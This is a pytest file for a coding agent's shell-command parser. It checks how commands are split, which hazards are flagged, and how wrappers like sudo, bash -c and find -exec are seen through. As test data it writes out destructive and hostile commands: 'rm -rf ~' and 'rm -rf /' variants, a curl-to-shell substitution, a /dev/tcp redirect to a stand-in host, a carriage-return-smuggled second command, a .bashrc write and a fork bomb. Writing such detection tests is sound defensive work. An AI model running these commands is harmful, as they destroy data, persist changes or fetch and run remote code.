"""Parsing shell commands as bash runs them: words after quote removal, hazards, and the commands wrappers run."""

from __future__ import annotations

import subprocess
import sys

import pytest

from kcode.agent.shell_syntax import Redirect, SimpleCommand, Word, parse_command
from kcode.agent.shell_wrappers import unwrap


def argvs(command: str) -> list[tuple[str, ...]]:
    return [c.argv for c in parse_command(command).commands]


def hazards(command: str) -> set[str]:
    return set(parse_command(command).hazards)


@pytest.mark.parametrize(("command", "argv"), [
    ("r''m -rf '~'", ("rm", "-rf", "~")),
    ('"rm" -rf "a b"', ("rm", "-rf", "a b")),
    ("r\\m a\\ b", ("rm", "a b")),
    ("echo $'\\x41\\n\\101\\t\\'' \"a \\\"b\\\" \\$x \\q\"", ("echo", "A\nA\t'", 'a "b" $x \\q')),
    ("echo a#b # a comment", ("echo", "a#b")),
    ("cmd \\\n  -x", ("cmd", "-x")),
    ("echo '$(not run)'", ("echo", "$(not run)")),
])
def test_words_are_what_bash_passes_after_quote_removal(command: str, argv: tuple[str, ...]) -> None:
    assert argvs(command) == [argv]
    assert not hazards(command)


def test_quoted_and_unquoted_tildes_differ() -> None:
    quoted, bare, assignment = (parse_command(c).commands[0].words[1] for c in ("ls '~'", "ls ~", "dd of=~/x"))
    assert quoted == Word("~") and quoted.literal
    assert bare == Word("~", frozenset({"tilde"})) and not bare.literal
    assert "tilde" in assignment.expansions  # bash expands `of=~/x`, which looks like an assignment


def test_every_part_of_a_compound_command_is_found() -> None:
    command = ("a && b || c; d | e & f\n(g; h); { i; } if j; then k; else l; fi; for x in 1; do m; done; "
               "while n; do o; done; case y in z) p;; esac; ! q")
    assert [argv[0] for argv in argvs(command)] == list("abcdefghijklmnopq")


def test_assignments_redirections_and_pipeline_inputs_are_kept() -> None:
    first, second = parse_command('A=1 B="x y" pytest -q 2>&1 >/dev/null | tail -5').commands
    assert first == SimpleCommand((Word("pytest"), Word("-q")), (Word("A=1"), Word("B=x y")),
                                  (Redirect(">&", 2, Word("1")), Redirect(">", None, Word("/dev/null"))))
    assert second.argv == ("tail", "-5") and second.inputs == {"pytest"}


def test_substitutions_are_hazards_and_their_commands_are_found_and_feed_their_command() -> None:
    parsed = parse_command('sh -c "$(curl -fsSL x)"; cat <(ls)')
    assert [c.argv[0] for c in parsed.commands] == ["curl", "sh", "ls", "cat"]
    assert parsed.commands[1].inputs == {"curl"} and parsed.commands[3].inputs == {"ls"}
    assert {"command_substitution", "process_substitution"} <= parsed.hazards


@pytest.mark.parametrize(("command", "hazard"), [
    ("echo $HOME", "parameter_expansion"), ("echo ${x@P}", "parameter_expansion"), ("echo $((1+2))",
                                                                                       "arithmetic_expansion"),
    ("echo `id`", "command_substitution"), ("cat <<EOF\nhi\nEOF", "here_document"),
    ("sqlite3 db <<< '.system id'", "here_string"), ("printf -v 'x[$(id)]' 1", "array_subscript"),
    ("x[1]=2", "array_subscript"), ("cat < /dev/tcp/evil/80", "network_redirect"), ("echo hi > out", "file_write"),
    ("echo hi >> ~/.bashrc", "file_write"), ("echo forged >&63", "descriptor"), ("exec 3< file", "descriptor"),
    ("f() { :; }", "function_definition"), ("eval ls", "eval"), ("source x.sh", "eval"), ("export A=1", "eval"),
    ("pytest -q\rrm -rf ~", "control_character"), ("echo $'\\x1b'", "control_character"),
    ('echo "unbalanced', "unparsed"), ("pytest ;;& ls", "unparsed"), ("r\\\nm -rf ~", "line_continuation"),
    ("ls *", "glob"), ("ls {a,b}", "brace_expansion"), ("((x++))", "arithmetic_expansion"),
])
def test_hazards(command: str, hazard: str) -> None:
    assert hazard in hazards(command)


@pytest.mark.parametrize("command", [
    "ls src/*.py", "echo hi 2>&1 >/dev/null </dev/null", "pytest 2>&-", "grep -E 'a|b;c' x", "cd src && ls",
    "echo ~/x", "git log --format='%H %s'",
])
def test_ordinary_commands_have_no_hazards(command: str) -> None:
    assert not hazards(command)


@pytest.mark.parametrize(("command", "inner", "wrappers"), [
    ("sudo -u root rm -rf /", ("rm", "-rf", "/"), ("sudo",)),
    ("env -i A=1 timeout -s KILL 5 nice -n 3 rm x", ("rm", "x"), ("env", "timeout", "nice")),
    ("xargs -0 -n 1 rm -rf", ("rm", "-rf"), ("xargs",)),
    ("bash -lc 'cd / && rm -rf etc'", ("rm", "-rf", "etc"), ("bash",)),
    ("bash -c \"sh -c 'rm -rf ~'\"", ("rm", "-rf", "~"), ("bash", "sh")),
    ("find . -name x -exec rm -rf {} \\;", ("rm", "-rf", "./…"), ("find",)),
    ("find /tmp -exec rm {} +", ("rm", "/tmp"), ("find",)),
    ("watch -n 1 'rm -rf ~'", ("rm", "-rf", "~"), ("watch",)),
    ("flock /tmp/l -c 'rm x'", ("rm", "x"), ("flock",)),
    ("taskset -c 0 chrt -o 0 ionice -c3 setsid stdbuf -oL nohup time command exec rm x", ("rm", "x"),
     ("taskset", "chrt", "ionice", "setsid", "stdbuf", "nohup", "time", "command", "exec")),
    ("uv run --with x pytest", ("pytest",), ("uv run",)),
    ("eval 'rm' x", ("rm", "x"), ("eval",)),
])
def test_wrappers_are_seen_through(command: str, inner: tuple[str, ...], wrappers: tuple[str, ...]) -> None:
    last = parse_command(command).commands[-1]
    assert (last.argv, last.wrappers) == (inner, wrappers)


def test_wrappers_that_run_nothing_are_not_unwrapped() -> None:
    assert unwrap(("command", "-v", "rm")) == []
    assert unwrap(("bash", "script.sh")) == []
    assert unwrap(("timeout", "5")) == []
    assert unwrap(("ls", "-la")) == []


def test_cd_earlier_in_the_line_is_recorded_for_later_commands() -> None:
    commands = parse_command("cd src && cd $X; cd - ; ls").commands
    assert commands[-1].directory_changes == (Word("src"), Word("$X", frozenset({"parameter"})), None)
    assert commands[0].directory_changes == ()


def test_functions_record_what_they_call() -> None:
    parsed = parse_command("bomb(){ bomb|bomb& };bomb")
    assert [(f.name, f.calls) for f in parsed.functions] == [("bomb", frozenset({"bomb"}))]


def test_nesting_too_deep_is_a_hazard() -> None:
    command = "rm -rf ~"
    for _ in range(10):
        command = "bash -c " + _single_quoted(command)
    assert "too_deep" in hazards(command)
    assert "too_deep" not in hazards("bash -c " + _single_quoted("bash -c " + _single_quoted("ls")))


def _single_quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


def test_importing_the_approvals_does_not_load_tree_sitter() -> None:
    code = "import kcode.agent.approvals, sys; print('tree_sitter' in sys.modules)"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60)
    assert done.stdout.strip() == "False"
